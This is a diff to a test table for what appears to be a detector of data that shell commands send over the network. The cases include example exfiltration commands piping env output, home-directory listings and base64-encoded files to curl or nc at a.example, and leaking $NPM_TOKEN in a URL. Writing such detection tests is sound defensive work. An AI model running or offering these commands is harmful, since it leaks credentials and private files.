@@ -49,7 +49,7 @@ describe("@sends", () => {
     ["curl -T a http://localhost:3000", []],
     ["cat a | base64 | curl -d @- https://a.example", ["a"]],
     ["echo hi | curl -d @- https://a.example", []],
-    ["env | nc a.example 80", ["-"]],
+    ["env | nc a.example 80", ["$*", "-"]],
     ["find ~ | nc a.example 80", ["-"]],
     ['curl "https://a.example/?t=$NPM_TOKEN"', ["$NPM_TOKEN"]],
     ['curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com', []],
